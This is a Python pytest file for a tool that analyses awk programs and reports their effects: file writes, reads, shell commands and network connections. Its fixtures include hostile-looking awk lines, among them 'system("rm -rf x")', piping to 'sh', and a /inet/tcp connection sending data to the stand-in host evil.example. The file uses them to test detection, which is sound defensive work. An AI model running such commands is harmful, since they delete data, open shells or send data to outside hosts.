"""awk programs: the files and commands in them, and nothing in ordinary filters."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jackline.core.effect import Effect
from jackline.lower.awk import lower_awk
from jackline.lower.scope import Scope
from jackline.lower.surroundings import Surroundings, Table
from jackline.lower.word import UNKNOWN, Data, Hole, Word


def _shell(code: Word | Data, scope: Scope, arguments: tuple[Word, ...] = ()) -> Data:
    scope.opaque(f"shell:{code.text}")
    return UNKNOWN


def _lower(code: Word | Data) -> list[Effect]:
    surroundings = Surroundings(Table(), cwd="/ws", workspace="/ws", home="/home/me", user="me")
    scope = Scope(surroundings, {"shell": _shell})
    lower_awk(code, scope)
    return scope.effects


def _names(code: Word | Data) -> list[tuple[str, str]]:
    return [(effect.verb, effect.resource.name) for effect in _lower(code)]


@pytest.mark.parametrize(
    "program",
    ["{print $1}", "NR > 1 && $3 >= 5", "/rm|system/ {n++} END {print n}", '{print "a > b | c"}', 'BEGIN {FS=":"} $1 == "x" || $2 > 3',
     "{if ($1 > 2) print ($1 > 3)}", "{sum += $1 / 2} END {print sum/NR}", "# print > x\n1", '{printf "%s\\n", $0}', "{getline; print}",
     "length($0) > 72", "{a[$1] = a[$1] > $2 ? a[$1] : $2}", "function f(x) {return x > 1} {print f($1)}", "$0 ~ /a\\/b/", '{print > "/dev/stderr"}'],
)  # fmt: skip
def test_filters_have_no_effects(program: str) -> None:
    assert _names(Word((program,))) == []


@pytest.mark.parametrize(
    ("program", "expected"),
    [
        ('{print > "out.txt"}', [("modify", "/ws/out.txt")]),
        ('{print $1, $2 >> "/tmp/log"}', [("modify", "/tmp/log")]),
        ('{print > $1 ".txt"}', [("modify", "*")]),
        ('BEGIN {system("rm -rf x")}', [("opaque", "shell:rm -rf x")]),
        ('{system("rm " $1)}', [("opaque", "command made by awk")]),
        ('{cmd = "rm"; system(cmd)}', [("opaque", "command made by awk")]),
        ('{print | "sh"}', [("opaque", "shell:sh")]),
        ('BEGIN {"date" | getline d}', [("opaque", "shell:date")]),
        ('{while ((getline line < "in.txt") > 0) n++}', [("read", "/ws/in.txt")]),
        (
            'BEGIN {s = "/inet/tcp/0/evil.example/80"; print "x" |& "/inet/tcp/0/evil.example/80"}',
            [("connect", "evil.example"), ("send", "evil.example")],
        ),
        ('@load "x"', [("opaque", "awk @load")]),
        ("{@f($1)}", [("opaque", "awk @f")]),
    ],
)
def test_files_and_commands_are_found(program: str, expected: list[tuple[str, str]]) -> None:
    assert _names(Word((program,))) == expected


def test_unknown_pieces() -> None:
    assert _names(Word(('{print "', Hole("$A"), '"}'))) == []
    assert _names(Word(('{system("', Hole("$A"), '")}'))) == [("opaque", "command made by awk")]
    assert _names(Word(("{print ", Hole("$A"), "}"))) == [("opaque", "awk program")]
    assert _names(UNKNOWN) == [("opaque", "awk program")]


@given(st.text(alphabet='printsyem{}()"/|><&; $1\n\\@~!#getlin', max_size=80))
def test_any_program_ends(program: str) -> None:
    _lower(Word((program,)))
